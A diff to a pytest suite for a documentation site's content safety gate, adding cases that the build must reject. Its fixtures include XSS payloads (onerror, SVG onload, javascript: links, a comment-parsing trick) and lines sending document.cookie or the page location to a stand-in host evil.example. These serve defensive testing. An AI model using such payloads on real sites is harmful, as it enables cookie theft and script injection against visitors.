@@ -79,6 +79,26 @@ CASES = {
                r"<iframe> element is not allowed", 1),
     "form": (CHEMO, "# Chemotherapy", '# Chemotherapy\n\n<form><input name="q"></form>',
              r"<form> element is not allowed", 1),
+    "theme config id": (CHEMO, "# Chemotherapy",
+                        '# Chemotherapy\n\n<div id="__config" hidden>{"search": "https://evil.example/w.js"}</div>',
+                        r"chemotherapy\.md.*(line \d+|:\d+).*the id '__config' in id= \(it belongs to the theme", 1),
+    "theme search label": (CHEMO, "# Chemotherapy", '# Chemotherapy\n\n<label for="__search">Search</label>',
+                           r"chemotherapy\.md.*(line \d+|:\d+).*the id '__search' in for=", 1),
+    "theme id on a heading": (CHEMO, "## ", "## Settings {#__drawer}\n\n## ",
+                              r"chemotherapy\.md.*(line \d+|:\d+).*the id '__drawer' in id=", 1),
+    "theme data attribute": (CHEMO, "# Chemotherapy", '# Chemotherapy\n\n<p data-md-component="search">x</p>',
+                             r"chemotherapy\.md.*(line \d+|:\d+).*the attribute data-md-component= on <p>", 1),
+    "comment parser difference": (CHEMO, "# Chemotherapy",
+                                  "# Chemotherapy\n\n<!-- c -- > <img src=x onerror=alert(1)> -->",
+                                  r"chemotherapy\.md.*(line \d+|:\d+).*an HTML comment \(<!-- \.\.\. -->\) is not", 1),
+    "off-site image": (CHEMO, "# Chemotherapy", "# Chemotherapy\n\n![A chart](https://tracker.example/p.png)",
+                       r"chemotherapy\.md.*(line \d+|:\d+).*image source 'https://tracker\.example/p\.png'", 1),
+    "protocol-relative image": (CHEMO, "# Chemotherapy", "# Chemotherapy\n\n![A chart](//tracker.example/p.png)",
+                                r"chemotherapy\.md.*(line \d+|:\d+).*image source '//tracker\.example/p\.png'", 1),
+    "backslash image": (CHEMO, "# Chemotherapy", '# Chemotherapy\n\n<img src="/\\tracker.example/p.png" alt="A chart">',
+                        r"chemotherapy\.md.*(line \d+|:\d+).*image source '/\\\\tracker\.example/p\.png'", 1),
+    "site javascript link": (CHEMO, "# Chemotherapy", "# Chemotherapy\n\n[Download](site:javascript:alert(1))",
+                             r"chemotherapy\.md.*(line \d+|:\d+).*address 'site:javascript:alert\(1\)'", 1),
     "quoted date": (CHEMO, "reviewed: 2026-11-21", 'reviewed: "2026-11-21"',
                     r"chemotherapy\.md.*(line \d+|:\d+).*`reviewed` date in quotes", 1),
     "nested source list": (CHEMO, "sources: [medical-news-today", "sources: [[x], medical-news-today",
@@ -99,7 +119,9 @@ CASES = {
 
 # Content the safety gate refuses: the build reports every such problem before it stops, so one build
 # of a page carrying all of them checks each message (test_the_build_reports_every_unsafe_element).
-UNSAFE_CONTENT = ("raw script", "event handler", "javascript link", "iframe", "form")
+UNSAFE_CONTENT = ("raw script", "event handler", "javascript link", "iframe", "form", "theme config id",
+                  "theme search label", "theme id on a heading", "theme data attribute", "comment parser difference",
+                  "off-site image", "protocol-relative image", "backslash image", "site javascript link")
 
 
 def build_message(expected: str) -> str:
@@ -126,6 +148,34 @@ def test_the_build_reports_every_unsafe_element(project):
     result = build(project)
     for case in UNSAFE_CONTENT:
         assert_clean_failure(result, build_message(CASES[case][3]))
+
+
+# Files under docs/ that a browser would run or show as a page, unchecked (content_policy.file_problem).
+UNCHECKED_FILES = {
+    "help.html": '<script>navigator.sendBeacon("https://evil.example/", document.cookie)</script>',
+    "assets/images/x.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
+    "assets/javascripts/evil.js": "fetch('https://evil.example/?' + location)",
+    "about/notes.xml": '<?xml-stylesheet href="data:text/xsl,x"?><x/>',
+}
+
+
+@pytest.mark.parametrize("name", UNCHECKED_FILES)
+def test_validator_refuses_unchecked_files(project, name):
+    (project / "docs" / name).write_text(UNCHECKED_FILES[name], encoding="utf-8")
+    assert_clean_failure(validate(project), rf"docs/{re.escape(name)}: a \.\w+ file is published as it is, unchecked.*"
+                                            r"write it as a Markdown page", 1)
+
+
+def test_the_build_refuses_unchecked_files_and_never_publishes_them(project):
+    for name, text in UNCHECKED_FILES.items():
+        (project / "docs" / name).write_text(text, encoding="utf-8")
+    result = build(project)
+    for name in UNCHECKED_FILES:
+        assert_clean_failure(result, rf"docs/{re.escape(name)}: a \.\w+ file is published as it is, unchecked")
+    result = run_mkdocs("build", "--no-strict", "--site-dir", str(project / "site"), cwd=project)
+    assert result.returncode == 0, result.stderr
+    assert not [name for name in UNCHECKED_FILES if (project / "site" / name).exists()]
+    assert (project / "site" / "assets" / "favicon.svg").is_file()  # the site's own, listed
 
 
 def test_page_that_is_not_utf8(project):
